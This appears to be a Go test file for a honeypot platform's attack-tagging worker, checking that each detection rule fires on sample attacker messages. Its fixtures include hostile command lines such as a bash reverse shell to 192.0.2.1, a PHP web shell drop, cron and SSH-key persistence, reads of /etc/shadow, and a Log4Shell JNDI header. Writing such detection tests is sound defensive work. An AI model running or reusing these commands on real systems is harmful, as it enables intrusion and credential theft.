package main

import (
	"encoding/base64"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"ttp-worker/intake"
	"ttp-worker/internal/testdb"
	"ttp-worker/sink"
	"ttp-worker/tagger"
	"ttp-worker/ttp"
)

// producer says who sends a message of that shape.
type producer int

const (
	ofDECNET producer = iota // the platform, as it is
	others                   // other sensors; docs/compat.md says so of each rule that has no message of the platform
)

// shape is a message that a rule of the catalogue fires on.
type shape struct {
	rule string
	from producer

	subject string
	typ     string // of the envelope
	payload string
}

// typedLine is a session with one command as the collector sends it.
func typedLine(rule, line string) shape {
	return shape{rule, ofDECNET, "attacker.session.ended", "session.ended", `{"session_id":"6f0c-` + rule + `","attacker_uuid":null,` +
		`"attacker_ip":"198.51.100.7","decky_id":"omega-decky","service":"ssh","ended_at":"2026-05-02T06:23:30","duration_s":42.5,"commands":[{"id":"6f0c#0",` +
		`"command_text":` + string(ttp.Quote(line)) + `,"ts":"2026-05-02T06:22:48","decky":"SRV-DELTA-77","service":"bash","uid":"0","user":"root",` +
		`"src":"198.51.100.7","pwd":"/root"}],"shard_path":null}`}
}

// ended is a session of a sensor that reports figures about it.
func ended(rule, members string) shape {
	return shape{rule, others, "attacker.session.ended", "session.ended", `{"session_id":"s-` + rule + `","attacker_ip":"198.51.100.7","commands":[],` + members + `}`}
}

func request(rule, members string) shape {
	return shape{rule, others, "attacker.http", "http", `{"attacker_ip":"198.51.100.7","decky_id":"web","service":"http","method":"GET",` + members + `}`}
}

func login(rule, members string) shape {
	return shape{rule, others, "attacker.auth", "auth", `{"attacker_ip":"198.51.100.7","service":"ssh",` + members + `}`}
}

// mail is what the ingester sends: the members behind the subject are cut off
// by its parser, whatever the mail had.
func mail(rule, from, members string) shape {
	return shape{rule, ofDECNET, "email.received", "received", `{"source_id":"4ABC` + rule + `","attacker_uuid":"a1","attacker_ip":"198.51.100.7","decky_id":"omega-decky",` +
		`"service":"smtp","from_domain":"` + from + `","mail_from_domain":"evil.test","return_path_domain":null,"rcpt_domains":["corp.test"],` +
		`"dkim_signed":false,"spf_pass":false,"urls":[],"attachment_count":null,"attachment_sha256s":[],"attachment_extensions":[],"body_simhash":"",` +
		`"body_base64_bytes":0,"attachment_macros":false,"attachment_password_protected":false,"html_smuggling":false,` + members + `}`}
}

// stored is a mail of which the message lies among the artifacts.
func stored(rule, subject string) shape {
	return mail(rule, "evil.test", `"rcpt_count":1,"subject":"`+subject+`","stored_as":"`+artifact(rule)+`"`)
}

func artifact(rule string) string { return "2026-05-02T10:11:12Z_00000000" + rule[1:] + "_4ABC.eml" }

func canary(rule string) shape {
	return shape{rule, ofDECNET, "canary.tok1.triggered", "", `{"token_id":"tok1","trigger_id":"fp-` + rule + `","decky_name":"omega-decky",` +
		`"src_ip":"198.51.100.7","user_agent":"Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/131.0","request_path":"/c/abc","dns_qname":null}`}
}

func intel(rule, members string) shape {
	return shape{rule, ofDECNET, "attacker.intel.enriched", "intel.enriched", `{"attacker_uuid":"a1","attacker_ip":"198.51.100.7",` +
		`"providers":["abuseipdb","greynoise","feodo","threatfox"],` + members + `}`}
}

func probe(rule string, from producer, typ, members string) shape {
	return shape{rule, from, "attacker.fingerprinted", typ, `{"attacker_ip":"198.51.100.7",` + members + `}`}
}

var catalogue = []shape{
	login("R0001", `"username":"root","result":"failed","fail_count":7`),
	{"R0001", others, "attacker.session.ended", "session.ended", `{"session_id":"g","attacker_ip":"198.51.100.7","auth_attempts":[` +
		strings.Repeat(`{"service":"ssh","username":"root","password":"x","result":"failed"},`, 5) + `{"service":"ssh","username":"root","result":"failed"}]}`},
	login("R0002", `"username":"root","result":"failed","password_count":5`),
	{"R0003", ofDECNET, "identity.formed", "formed", `{"identity_uuid":"i1","observation_uuids":["a1"]}`},
	{"R0003", ofDECNET, "identity.merged", "merged", `{"winner_uuid":"i1","loser_uuid":"i2"}`},
	{"R0004", ofDECNET, "credential.reuse.detected", "reuse.detected", `{"id":"reuse-1","secret_kind":"plaintext","target_count":3,` +
		`"attacker_uuids":"[]","attacker_ips":"[\"198.51.100.7\"]","deckies":"[\"d1\",\"d2\"]","services":"[\"ssh\"]"}`},
	login("R0005", `"username":"root","result":"success","prior_brute":true`),
	login("R0006", `"username":"pi","password":"raspberry","result":"failed"`),
	request("R0007", `"raw_url":"/","user_agent":"sqlmap/1.7"`),
	request("R0008", `"raw_url":"/","headers":"{\"X-Api-Version\":\"${jndi:ldap://192.0.2.1/a}\"}"`),
	request("R0009", `"raw_url":"/cgi-bin/../../../../etc/hosts"`),
	typedLine("R0010", `bash -i >& /dev/tcp/192.0.2.1/4444 0>&1`),
	typedLine("R0011", `php -r 'phpinfo();'`),
	typedLine("R0012", `wget http://192.0.2.1/x.sh`),
	typedLine("R0013", `cat /etc/passwd`),
	typedLine("R0014", `sudo cat /etc/shadow`),
	typedLine("R0015", `find / -perm /6000 2>/dev/null`),
	typedLine("R0016", `find / -name id_rsa`),
	typedLine("R0017", `nmap -sS 192.0.2.0/24`),
	typedLine("R0018", `lsb_release -a`),
	typedLine("R0019", `cd /; id`),
	typedLine("R0020", `ip neigh`),
	typedLine("R0021", `netstat -tulpn`),
	typedLine("R0022", `ldapsearch -x -b dc=corp`),
	typedLine("R0023", `smbclient -L //192.0.2.1`),
	typedLine("R0024", `useradd -m -s /bin/bash x`),
	typedLine("R0025", `(crontab -l; echo '@reboot /tmp/x') | crontab -`),
	typedLine("R0026", `echo ssh-rsa AAAA x >> ~/.ssh/authorized_keys`),
	typedLine("R0027", `echo '<?php system($_GET[0]); ?>' > /var/www/html/s.php`),
	typedLine("R0028", `rm -f ~/.bash_history`),
	typedLine("R0029", `x; sudo -l`),
	probe("R0030", ofDECNET, "jarm", `"port":443,"jarm_hash":"07d14d16d21d21d07c42d41d00041d24a458a375eef0c576d23a7bab9a9fb1"`),
	probe("R0030", others, "hassh", `"port":22,"hassh_server":"b12d2871a1189eff20364cf5333619ee","matched_framework":"sliver"`),
	ended("R0031", `"beacon_interval_s":60.5,"beacon_jitter_pct":0.05`),
	{"R0032", ofDECNET, "attacker.session.ended", "session.ended", `{"session_id":"r","attacker_uuid":null,"attacker_ip":"198.51.100.7","decky_id":"-",` +
		`"commands":[{"id":"r#0","command_text":"FLUSHALL","ts":"2026-05-02T06:22:48","decky":"d","service":"redis"}]}`},
	stored("R0033", "hello"),
	ended("R0034", `"bytes_out":2097152,"request_count":3,"target_host":"192.0.2.9"`),
	ended("R0035", `"rows_read":20000,"bytes_read":1024,"service":"mysql"`),
	request("R0036", `"raw_url":"/app/.env","request_path":"/app/.env"`),
	request("R0037", `"raw_url":"/api/v1/namespaces/default/secrets"`),
	request("R0038", `"raw_url":"/v1.41/containers/create","body":"{\"Image\":\"alpine\",\"HostConfig\":{\"Privileged\":true}}"`),
	ended("R0039", `"llmnr_poisoned":true,"poisoned_query":"WPAD"`),
	ended("R0040", `"tftp_filename":"router-confg"`),
	mail("R0041", "bank.test", `"rcpt_count":12,"subject":"hi"`),
	mail("R0042", "evil.test", `"rcpt_count":30,"subject":"hello","stored_as":"`+artifact("R0042")+`"`),
	mail("R0043", "evil.test", `"rcpt_count":1,"subject":"hi","x_mailer":"GoPhish"`),
	stored("R0044", "hello"),
	mail("R0045", "bank.test", `"rcpt_count":1,"subject":"hi"`),
	stored("R0046", "hello"),
	stored("R0047", "Urgent invoice"),
	stored("R0048", "hello"),
	canary("R0049"),
	{"R0050", others, "canary.tok1.triggered", "", `{"token_id":"tok1","trigger_id":"t50","src_ip":"198.51.100.7","matched_tool":"puppeteer"}`},
	canary("R0051"),
	canary("R0052"),
	canary("R0053"),
	intel("R0054", `"abuseipdb_score":87,"abuseipdb_categories":[],"aggregate_verdict":"suspicious"`),
	intel("R0055", `"greynoise_classification":"malicious","greynoise_name":"unknown","greynoise_tags":[]`),
	intel("R0056", `"feodo_listed":true,"feodo_malware_family":"Emotet"`),
	intel("R0057", `"threatfox_listed":true,"threatfox_threat_types":["botnet_cc"],"threatfox_ioc_types":["ip:port"],"threatfox_malware_families":["win.cobalt_strike"]`),
	probe("R0059", ofDECNET, "ipv6_leak", `"addr":"feb0::1","iid_kind":"eui64","mac_oui":"aa:bb:cc","vector":"active_echo","on_iface":"eth0","observed_at":"2026-05-02T06:22:48+00:00"`),
	probe("HFP-0001", others, "http_fingerprint", `"ja4h":"ge11nn020000_9ed1ff1f7b03_cd8dafe26982"`),
	probe("HFP-0002", others, "http_fingerprint", `"fingerprint_type":"http2_settings","hash":"abc"`),
	probe("HFP-0003", others, "http_fingerprint", `"ja4_quic":"q13d0310h3_55b375c5d22e_cd85d2d88918"`),
}

// messages are the mails among the artifacts, by the rule that they are for.
var messages = map[string]string{
	"R0033": "Subject: hello\r\n\r\nPay 1 BTC to 1BoatSLRHtKNngkdXEeobR76b53LETtpyT\r\n",
	"R0042": "Subject: hello\r\n\r\nDear customer\r\n",
	"R0044": "Subject: hello\r\n\r\nhttps://xn--pypal-4ve.test/login\r\n",
	"R0046": "Subject: hello\r\nContent-Type: application/octet-stream; name=\"invoice.lnk\"\r\nContent-Disposition: attachment; filename=\"invoice.lnk\"\r\n\r\nx\r\n",
	"R0047": "Subject: Urgent invoice\r\n\r\nPlease transfer today.\r\n",
	"R0048": "Subject: hello\r\n\r\n" + wrapped(base64.StdEncoding.EncodeToString([]byte(strings.Repeat("payload!", 600)))) + "\r\n",
}

// wrapped cuts text into lines as mail programs do.
func wrapped(text string) string {
	var b strings.Builder
	for line := range slices.Chunk([]byte(text), 76) {
		b.Write(line)
		b.WriteString("\r\n")
	}
	return b.String()
}

// fingerprints are the stored fingerprints, by the rule that they are for.
var fingerprints = map[string]string{
	"R0049": `{"nav":{"ua":"Mozilla/5.0 (Windows NT 10.0) Chrome/131.0","wd":true}}`,
	"R0051": `{"rtc":{"ip":["203.0.113.9"]}}`,
	"R0052": `{"tz":{"z":"Asia/Shanghai"},"nav":{"lg":"zh-CN","lgs":["zh-CN"]}}`,
	"R0053": `{"nav":{"ua":"Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/131.0","pl":"Linux x86_64"}}`,
}

// platform is a database of the platform with what the messages point at, and
// a directory with the mails.
func platform(t *testing.T) (db *sink.DB, artifacts string) {
	t.Helper()
	dsn := testdb.DECNET(t)
	testdb.Exec(t, dsn,
		// IGNORE lets columns without a default that do not matter here be left out.
		`INSERT IGNORE INTO attacker_identities (uuid) VALUES ('i1')`,
		`INSERT IGNORE INTO attackers (uuid, ip, identity_id, country_code) VALUES ('a1', '198.51.100.7', 'i1', 'FR')`,
		`INSERT IGNORE INTO credentials (attacker_ip, attacker_uuid, secret_kind, secret_sha256, principal_key) VALUES
			('198.51.100.7', 'a1', 'plaintext', 'beef', 'root'), ('198.51.100.7', 'a1', 'plaintext', 'beef', 'admin'), ('198.51.100.7', 'a1', 'plaintext', 'beef', 'pi')`,
		`INSERT IGNORE INTO credential_reuse (id, secret_sha256, principal_key, target_count) VALUES ('reuse-1', 'beef', 'root', 3)`,
		`INSERT IGNORE INTO attacker_intel (uuid, attacker_uuid, expires_at, abuseipdb_raw, abuseipdb_categories, greynoise_raw, greynoise_tags, feodo_raw,
			threatfox_raw, threatfox_threat_types, threatfox_ioc_types, threatfox_malware_families)
			VALUES ('n1', 'a1', '2036-01-01', '{"data":{"reports":[{"categories":[18,22]}]}}', '[]', '{}', '[]', '{}', '[]', '[]', '[]', '[]')`,
		`INSERT IGNORE INTO canary_tokens (uuid, kind, callback_token) VALUES ('tok1', 'http', 'x')`)
	for rule, fp := range fingerprints {
		testdb.Exec(t, dsn, fmt.Sprintf(`INSERT IGNORE INTO canary_triggers (uuid, token_uuid, raw_headers) VALUES ('fp-%s', 'tok1', '{"host":"x","_fp":%s}')`, rule, fp))
	}
	artifacts = t.TempDir()
	dir := filepath.Join(artifacts, "omega-decky", "smtp")
	if err := os.MkdirAll(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	for rule, text := range messages {
		if err := os.WriteFile(filepath.Join(dir, artifact(rule)), []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	db, err := sink.Open(dsn, sink.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = db.Close() })
	return db, artifacts
}

// fired returns the rules that say something about the message that can be
// stored, and each one's best confidence.
func fired(t *testing.T, db *sink.DB, rules tagger.Tagger, s shape) map[string]float64 {
	t.Helper()
	m, err := intake.Decode(s.subject, `{"v":1,"id":"x","type":"`+s.typ+`","ts":1777703010.5,"payload":`+s.payload+`}`)
	if err != nil {
		t.Fatalf("%s: %v", s.rule, err)
	}
	r := intake.NewResolver(db, false)
	if err := r.Enrich(t.Context(), []*intake.Message{m}); err != nil {
		t.Fatalf("%s: %v", s.rule, err)
	}
	if err := r.Anchor(t.Context(), m.Events); err != nil {
		t.Fatalf("%s: %v", s.rule, err)
	}
	found := make(map[string]float64)
	for _, e := range m.Events {
		findings, err := rules.Tag(t.Context(), &e.Event)
		if err != nil {
			t.Errorf("%s: %v", s.rule, err)
		}
		for _, f := range findings {
			if e.Anchored() && f.Confidence >= ttp.MinConfidence {
				found[f.RuleID] = max(found[f.RuleID], f.Confidence)
			}
		}
	}
	return found
}

func TestCatalogue_every_rule_fires_on_what_a_producer_sends(t *testing.T) {
	db, artifacts := platform(t)
	set, problems, err := loadRules([]string{"builtin"})
	if err != nil || len(problems) > 0 {
		t.Fatal(err, problems)
	}
	rules, err := tagger.NewComposite(tagger.Routes(set, set.Kinds(), artifacts)...)
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range catalogue {
		t.Run(s.rule+" "+s.subject, func(t *testing.T) {
			if found := fired(t, db, rules, s); found[s.rule] == 0 {
				t.Errorf("%s does not fire on %s, but %v do", s.rule, s.payload, found)
			}
		})
	}
	// This rule yields no tag: it makes the others more or less certain.
	t.Run("R0058", func(t *testing.T) {
		for verdict, want := range map[string]float64{"malicious": 0.9, "suspicious": 0.85, "benign": 0.7} {
			found := fired(t, db, rules, intel("R0056", `"feodo_listed":true,"aggregate_verdict":"`+verdict+`"`))
			if found["R0056"] != want {
				t.Errorf("verdict %s: %v, want %v", verdict, found["R0056"], want)
			}
		}
	})
}

// What only other sensors send is listed in docs/compat.md, so that nobody
// waits for a tag that cannot come.
func TestCatalogue_is_complete_and_its_gaps_are_documented(t *testing.T) {
	covered := map[string]producer{"R0058": ofDECNET}
	for _, s := range catalogue {
		if from, known := covered[s.rule]; !known || s.from < from {
			covered[s.rule] = s.from
		}
	}
	want := []string{"HFP-0001", "HFP-0002", "HFP-0003"}
	for n := 1; n <= 59; n++ {
		want = append(want, fmt.Sprintf("R%04d", n))
	}
	text, err := os.ReadFile(filepath.Join("..", "..", "docs", "compat.md"))
	if err != nil {
		t.Fatal(err)
	}
	for _, rule := range want {
		from, known := covered[rule]
		documented := regexp.MustCompile(`(?m)^\| ` + rule + ` \|.*signal`).Match(text)
		if !known {
			t.Errorf("no message for rule %s", rule)
		} else if documented != (from == others) {
			t.Errorf("rule %s: in the table of missing signals of docs/compat.md: %v, want %v", rule, documented, from == others)
		}
	}
}
